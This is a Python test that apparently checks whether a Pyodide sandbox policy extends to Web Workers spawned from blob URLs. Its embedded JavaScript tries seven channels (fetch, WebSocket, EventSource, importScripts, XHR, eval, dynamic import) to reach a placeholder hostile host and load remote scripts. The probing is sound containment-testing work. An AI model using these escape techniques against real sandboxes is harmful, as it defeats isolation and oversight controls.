# promise: P2
# defence: policy
# control: policy seal lockdown globals
# Whoever gets hold of Worker may run any JavaScript, from a blob: it must inherit the policy.
from pyodide.ffi import to_js
from reach import attempt, go_on_after_the_end, linger, scopes

CODE = """
const address = 'http://nested.hostile.invalid/';
const tries = [
  () => fetch(address + 'fetch', { mode: 'no-cors' }),
  () => new WebSocket('ws://nested.hostile.invalid/ws'),
  () => new EventSource(address + 'es'),
  () => importScripts(address + 'script.js'),
  () => { const request = new XMLHttpRequest(); request.open('GET', address + 'xhr', false); request.send(); },
  () => eval("fetch(address + 'eval')"),
  () => import(address + 'module.js'),
];
for (const one of tries) { try { Promise.resolve(one()).catch(() => {}); } catch {} }
"""

go_on_after_the_end()
for by, scope in scopes():
    def start(kind=None):
        address = scope.URL.createObjectURL(scope.Blob.new(to_js([CODE])))
        return scope.Worker.new(address)
    attempt(f"a worker from a blob (by {by})", lambda: start() and False)
linger(0.5)
print("held")
